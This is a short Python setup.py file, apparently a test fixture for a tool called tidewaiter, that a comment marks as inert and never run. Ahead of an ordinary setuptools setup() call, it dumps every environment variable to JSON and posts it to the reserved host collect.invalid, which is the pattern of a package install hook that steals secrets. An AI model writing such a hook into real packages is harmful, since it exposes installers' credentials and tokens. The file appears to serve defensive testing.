# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import json
import os
import urllib.request

data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("http://collect.invalid/e", data=data)


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
